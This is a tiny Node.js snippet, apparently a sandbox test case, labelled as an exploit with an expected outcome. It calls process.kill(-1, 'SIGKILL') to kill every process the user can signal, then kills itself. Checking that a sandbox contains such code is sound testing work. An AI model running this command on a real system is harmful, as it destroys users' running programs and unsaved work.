// exploit: signals every process it may, itself included, with SIGKILL
// outcome: signal exited finished
process.kill(-1, 'SIGKILL')
process.kill(process.pid, 'SIGKILL')
